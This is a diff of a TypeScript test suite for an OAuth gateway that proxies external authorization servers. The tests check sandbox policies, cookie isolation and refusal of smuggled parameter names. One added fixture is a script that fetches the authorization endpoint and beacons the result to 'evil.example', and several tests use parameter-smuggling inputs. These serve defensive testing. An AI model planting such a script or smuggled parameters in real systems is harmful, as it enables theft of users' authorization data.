@@ -21,6 +21,11 @@ function rawRequest(method: string, url: string, body: string, headers: Record<s
   });
 }
 
+const HOSTILE_PAGE = '<!doctype html><script>fetch("/oauth2/authorize").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example", t))</script>';
+
+/** Each Content-Security-Policy the answer carries (a browser enforces all of them). */
+const policiesOf = (headers: Headers) => (headers.get('content-security-policy') ?? '').split(',').map((policy) => policy.trim());
+
 /**
  * The front proxy: a registered server's endpoints through the gateway at
  * /oauth2/servers/<name>/..., against a small upstream OAuth server.
@@ -47,6 +52,10 @@ describe('front proxy of external authorization servers', function () {
         return { headers: { 'Set-Cookie': ['oauth2.sid=planted; Path=/oauth2', 'up=1; Domain=gateway.example; Path=/; HttpOnly'] } };
       }
       if (req.url.startsWith('/authorize')) return { status: 302, headers: { Location: 'https://client.example/cb?code=up-code&state=s1' } };
+      if (req.url.startsWith('/page')) {
+        // A hostile upstream: HTML with a script from any endpoint, its own lenient policy, and a header that would act on the whole origin.
+        return { body: HOSTILE_PAGE, headers: { 'Content-Type': 'text/html', 'Content-Security-Policy': "script-src 'unsafe-inline'", 'Clear-Site-Data': '"cookies"' } };
+      }
       return { body: { access_token: 'upstream-token', token_type: 'Bearer', expires_in: 60 }, headers: { 'Cache-Control': 'no-store', Connection: 'X-Hop', 'X-Hop': 'only for this hop', 'X-Upstream': 'yes' } };
     });
     deadPort = await freePort();
@@ -59,9 +68,15 @@ describe('front proxy of external authorization servers', function () {
       createClient: { url: `${upstream.url}/clients` },
       removeClient: { url: `${upstream.url}/clients` }
     };
+    const hostile = `${upstream.url}/page`;
     const entries = [
       { name: 'upstream', endpoints, allowedGrants: ['client_credentials', 'password'], allowedResponseTypes: ['code'], loginRedirect: 'https://up.example/login', secrets: { 'known-client': 'known client secret' }, tokenStrategy: strategy },
       { name: 'open', endpoints: { token: { url: `${upstream.url}/token` } }, tokenStrategy: strategy },
+      { name: 'lenient', endpoints: { token: endpoints.token, authorize: endpoints.authorize, introspection: endpoints.introspection }, secrets: { 'known-client': 'known client secret' }, tokenStrategy: strategy },
+      {
+        name: 'hostile', tokenStrategy: strategy,
+        endpoints: { token: { url: hostile }, introspection: { url: hostile }, revoke: { url: hostile }, createClient: { url: hostile }, removeClient: { url: hostile } }
+      },
       { name: 'down', endpoints: { token: { url: `http://127.0.0.1:${deadPort}/token` } }, tokenStrategy: strategy },
       { name: 'cookies', endpoints: { token: { url: `${upstream.url}/cookies` } }, tokenStrategy: strategy },
       { name: 'slow', endpoints: { token: { url: `${upstream.url}/slow`, timeout: 300 } }, tokenStrategy: strategy }
@@ -110,28 +125,127 @@ describe('front proxy of external authorization servers', function () {
     expect(open.status, 'an entry without allowedGrants lets every grant through').to.equal(200);
   });
 
-  it('passes the authorization request on with its query and the upstream\'s redirect back', async function () {
-    const res = await request(`${base()}/upstream/authorize?response_type=code&client_id=c&state=s1`, { redirect: 'manual' });
-    expect(res.status).to.equal(302);
-    expect(res.headers.get('location')).to.equal('https://client.example/cb?code=up-code&state=s1');
-    expect(upstream.received[0].url).to.equal('/authorize?tenant=t1&response_type=code&client_id=c&state=s1');
+  it('sends the browser to the upstream\'s own authorization endpoint, after its own checks, with the query as it read it', async function () {
+    const got = await request(`${base()}/upstream/authorize?response_type=code&client_id=c&state=s%201&scope=a%20b&x=%7e`);
+    expect(got.status, got.text).to.equal(302);
+    expect(got.headers.get('location')).to.equal(`${upstream.url}/authorize?tenant=t1&response_type=code&client_id=c&state=s+1&scope=a+b&x=%7E`);
+    expect(got.headers.get('cache-control')).to.equal('no-store');
+    // 307: the browser posts the same form to the upstream's origin; the query is re-serialised as for GET.
+    const posted = await postForm(`${base()}/upstream/authorize?state=s1`, { response_type: 'code', client_id: 'c', scope: 'a b' });
+    expect(posted.status, posted.text).to.equal(307);
+    expect(posted.headers.get('location')).to.equal(`${upstream.url}/authorize?tenant=t1&state=s1`);
+    expectOAuthError(await postForm(`${base()}/upstream/authorize`, { response_type: 'token', client_id: 'c' }), 400, 'unsupported_response_type', /not allowed/);
+    expect(upstream.received, 'no upstream page is served on the gateway\'s origin').to.have.length(0);
   });
 
-  it('adds the registered secret at the token endpoint for a client that sends only its client_id, and nothing for others', async function () {
-    await postForm(`${base()}/upstream/token`, { grant_type: 'password', username: 'u', password: 'p', client_id: 'known-client' });
+  it('refuses a posted authorization request that a browser would not have encoded so, as the browser re-posts it unchanged', async function () {
+    // The gateway cannot rewrite what the browser sends on after a 307: it admits only the encoding every form parser reads alike.
+    for (const body of ['response_type=code&scope=a%20b', 'response_type=code;response_type=token', 'response%5Ftype=code']) {
+      expectOAuthError(await postForm(`${base()}/lenient/authorize`, body), 400, 'invalid_request', /encoded/);
+    }
+    expect(upstream.received).to.have.length(0);
+  });
+
+  it('in sandbox mode, proxies the authorization page under a sandbox policy, so that its scripts get an opaque origin', async function () {
+    const entry = { name: 'private', browserEndpoints: 'sandbox', endpoints: { authorize: { url: `${upstream.url}/page?tenant=t1` } }, tokenStrategy: strategy };
+    const created = await register(entry);
+    expect(created.status, created.text).to.equal(201);
+    expect(created.json.browserEndpoints).to.equal('sandbox');
+    const res = await request(`${base()}/private/authorize?response_type=code&client_id=c&scope=a%20b`);
+    expect(res.status).to.equal(200);
+    expect(res.text).to.equal(HOSTILE_PAGE);
+    expect(policiesOf(res.headers)).to.include('sandbox allow-forms allow-scripts');
+    expect(res.headers.get('content-security-policy')).not.to.contain('allow-same-origin');
+    expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
+    expect(upstream.received[0].url).to.equal('/page?tenant=t1&response_type=code&client_id=c&scope=a+b');
+    const posted = await postForm(`${base()}/private/authorize`, 'response_type=code&scope=a%20b');
+    expect(posted.status, 'a posted form is forwarded, re-serialised').to.equal(200);
+    expect(upstream.received[1].body).to.equal('response_type=code&scope=a+b');
+  });
+
+  it('answers every proxied page or API answer with a sandbox policy and nosniff, whatever the upstream sent', async function () {
+    const answers = [
+      await request(`${base()}/hostile/token?grant_type=client_credentials`),
+      await postForm(`${base()}/hostile/token`, { grant_type: 'client_credentials' }),
+      await postForm(`${base()}/hostile/introspect`, { token: 't' }),
+      await postForm(`${base()}/hostile/revoke`, { token: 't' }),
+      await request(`${base()}/hostile/clients`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }),
+      await request(`${base()}/hostile/clients/c1`, { method: 'DELETE' })
+    ];
+    for (const res of answers) {
+      expect(res.text).to.equal(HOSTILE_PAGE);
+      expect(policiesOf(res.headers), 'the upstream\'s own policy stays, ours is added').to.deep.equal(["script-src 'unsafe-inline'", 'sandbox']);
+      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
+      expect(res.headers.get('clear-site-data'), 'an upstream cannot clear the gateway origin\'s cookies').to.equal(null);
+    }
+  });
+
+  it('adds a registered secret only for the code, refresh token and device code grants, for a client that sends only its client_id', async function () {
     // RFC 6749 §2.3.1: form-encoded first, so spaces are '+'.
     const added = `Basic ${Buffer.from('known-client:known+client+secret').toString('base64')}`;
-    expect(upstream.received[0].headers.authorization).to.equal(added);
-    expect(upstream.received[0].body).to.equal('grant_type=password&username=u&password=p');
-    await postForm(`${base()}/upstream/token`, { grant_type: 'client_credentials', client_id: 'known-client' });
-    expect(upstream.received[1].headers.authorization, 'never for client_credentials: the secret is its only proof').to.equal(undefined);
-    await postForm(`${base()}/upstream/revoke`, { token: 't', client_id: 'known-client' });
-    expect(upstream.received[2].headers.authorization, 'only at the token endpoint').to.equal(undefined);
-    await postForm(`${base()}/upstream/token`, { grant_type: 'password', username: 'u', password: 'p', client_id: 'unknown-client' });
-    expect(upstream.received[3].headers.authorization).to.equal(undefined);
-    expect(upstream.received[3].body).to.contain('client_id=unknown-client');
-    await postForm(`${base()}/upstream/token`, { grant_type: 'password', username: 'u', password: 'p', client_id: 'known-client', client_secret: 'its own' });
-    expect(upstream.received[4].headers.authorization, 'a client that authenticates itself is left alone').to.equal(undefined);
+    const proven = ['authorization_code', 'refresh_token', 'urn:ietf:params:oauth:grant-type:device_code'];
+    for (const grant of proven) {
+      upstream.received.length = 0;
+      await postForm(`${base()}/lenient/token`, { grant_type: grant, code: 'c', client_id: 'known-client' });
+      expect(upstream.received[0].headers.authorization, grant).to.equal(added);
+      expect(upstream.received[0].body, 'one authentication method only').to.equal(`grant_type=${encodeURIComponent(grant)}&code=c`);
+    }
+    // The secret would be the only proof of these: whoever knows the client_id would get the client's tokens.
+    const unproven = ['client_credentials', 'password', 'urn:ietf:params:oauth:grant-type:jwt-bearer', 'urn:ietf:params:oauth:grant-type:saml2-bearer',
+      'urn:example:unknown', ''];
+    for (const grant of unproven) {
+      upstream.received.length = 0;
+      await postForm(`${base()}/lenient/token`, grant ? { grant_type: grant, client_id: 'known-client' } : { client_id: 'known-client' });
+      expect(upstream.received[0].headers.authorization, grant || 'no grant_type').to.equal(undefined);
+      expect(upstream.received[0].body).to.contain('client_id=known-client');
+    }
+    upstream.received.length = 0;
+    await postForm(`${base()}/lenient/introspect`, { token: 't', client_id: 'known-client' });
+    expect(upstream.received[0].headers.authorization, 'only at the token endpoint').to.equal(undefined);
+    await postForm(`${base()}/lenient/token`, { grant_type: 'refresh_token', refresh_token: 'r', client_id: 'unknown-client' });
+    expect(upstream.received[1].headers.authorization).to.equal(undefined);
+    expect(upstream.received[1].body).to.contain('client_id=unknown-client');
+    await postForm(`${base()}/lenient/token`, { grant_type: 'refresh_token', refresh_token: 'r', client_id: 'known-client', client_secret: 'its own' });
+    expect(upstream.received[2].headers.authorization, 'a client that authenticates itself is left alone').to.equal(undefined);
+  });
+
+  it('refuses parameter names that another server could read as an OAuth parameter, in the body and in the query', async function () {
+    // A PHP upstream reads grant.type, grant type and grant[type] as grant_type: the gateway would have checked one grant and the upstream used another.
+    const smuggled = ['grant.type', 'grant type', 'grant[type]', 'grant_type[]', 'grant%5Btype%5D', 'grant_type%00'];
+    for (const name of smuggled) {
+      const body = `grant_type=refresh_token&refresh_token=r&client_id=known-client&${name.replace(/ /g, '+')}=client_credentials`;
+      expectOAuthError(await postForm(`${base()}/lenient/token`, body), 400, 'invalid_request', /parameter name/);
+      expectOAuthError(await postForm(`${base()}/upstream/token?${name}=password`, 'grant_type=client_credentials'), 400, 'invalid_request', /parameter name/);
+    }
+    expectOAuthError(await request(`${base()}/lenient/authorize?response_type=code&response.type=token`), 400, 'invalid_request', /parameter name/);
+    expectOAuthError(await postForm(`${base()}/lenient/introspect`, 'token=t&=x'), 400, 'invalid_request', /parameter name/);
+    expect(upstream.received).to.have.length(0);
+  });
+
+  it('forwards the form and the query as it read them, re-serialised, whatever encoding the client used', async function () {
+    const res = await rawPost(`${base()}/lenient/token?a=%7e&b=x%20y`, 'grant_type=client_credentials;grant_type=password&scope=a%20b&x=%7e', {
+      'Content-Type': 'application/x-www-form-urlencoded; charset=ISO-8859-1'
+    });
+    expect(res.status, res.body).to.equal(200);
+    const sent = upstream.received[0];
+    expect(sent.url).to.equal('/token?a=%7E&b=x+y');
+    // A server that splits on ';' reads the same single grant_type as the gateway did.
+    expect(sent.body).to.equal('grant_type=client_credentials%3Bgrant_type%3Dpassword&scope=a+b&x=%7E');
+    expect(sent.headers['content-type']).to.equal('application/x-www-form-urlencoded');
+    expect(sent.headers['content-length']).to.equal(String(sent.body.length));
+  });
+
+  it('refuses a body it cannot read as a form at the token and authorization endpoints, whatever the entry allows', async function () {
+    const json = { 'Content-Type': 'application/json' };
+    expectOAuthError(await request(`${base()}/lenient/token`, { method: 'POST', headers: json, body: '{"grant_type":"client_credentials"}' }), 400, 'invalid_request', /must be application\/x-www-form-urlencoded/);
+    expectOAuthError(await request(`${base()}/lenient/authorize`, { method: 'POST', headers: json, body: '{"response_type":"token"}' }), 400, 'invalid_request', /must be application\/x-www-form-urlencoded/);
+    const gzipped = await rawPost(`${base()}/lenient/token`, 'grant_type=client_credentials', { 'Content-Encoding': 'gzip' });
+    expect(gzipped.status, gzipped.body).to.equal(400);
+    expect(JSON.parse(gzipped.body)).to.include({ error: 'invalid_request' });
+    const withBody = await rawRequest('GET', `${base()}/lenient/token?grant_type=client_credentials`, 'grant_type=password', { 'Content-Length': '19' });
+    expect(withBody.status, withBody.body).to.equal(400);
+    expect(JSON.parse(withBody.body).error_description).to.match(/GET request has no body/);
+    expect(upstream.received).to.have.length(0);
   });
 
   it('checks the grant across query and body, and only bodies it can read', async function () {
@@ -164,14 +278,21 @@ describe('front proxy of external authorization servers', function () {
     expect(upstream.received).to.have.length(0);
   });
 
-  it('confines the upstream\'s cookies to its own path and never lets it set the gateway\'s session cookie', async function () {
+  it('stores the upstream\'s cookies under names of their own server, confined to its path', async function () {
     const res = await request(`${base()}/cookies/token`, { method: 'POST' });
-    expect(res.headers.getSetCookie()).to.deep.equal(['up=1; HttpOnly; Path=/oauth2/servers/cookies/']);
+    // The planted session cookie is harmless once renamed: the browser keeps it apart from the gateway's own.
+    expect(res.headers.getSetCookie()).to.deep.equal([
+      'proxied~cookies~oauth2.sid=planted; Path=/oauth2/servers/cookies/',
+      'proxied~cookies~up=1; HttpOnly; Path=/oauth2/servers/cookies/'
+    ]);
   });
 
-  it('keeps the gateway\'s own session cookie from the upstream', async function () {
-    await postForm(`${base()}/upstream/introspect`, { token: 't' }, { Cookie: 'oauth2.sid=gateway-session; upstream-cookie=1' });
-    expect(upstream.received[0].headers.cookie).to.equal('upstream-cookie=1');
+  it('sends an upstream only the cookies it set itself, under their own names, never the origin\'s others', async function () {
+    const cookie = 'oauth2.sid=gateway-session; app-cookie=1; proxied~upstream~mine=2; proxied~open~theirs=3; proxied~upstream.x~other=4; proxied~upstream~more=a=b';
+    await postForm(`${base()}/upstream/introspect`, { token: 't' }, { Cookie: cookie });
+    expect(upstream.received[0].headers.cookie).to.equal('mine=2; more=a=b');
+    await postForm(`${base()}/upstream/introspect`, { token: 't' }, { Cookie: 'oauth2.sid=gateway-session; app-cookie=1' });
+    expect(upstream.received[1].headers.cookie).to.equal(undefined);
   });
 
   it('reaches the client create and remove endpoints and redirects to the login page', async function () {
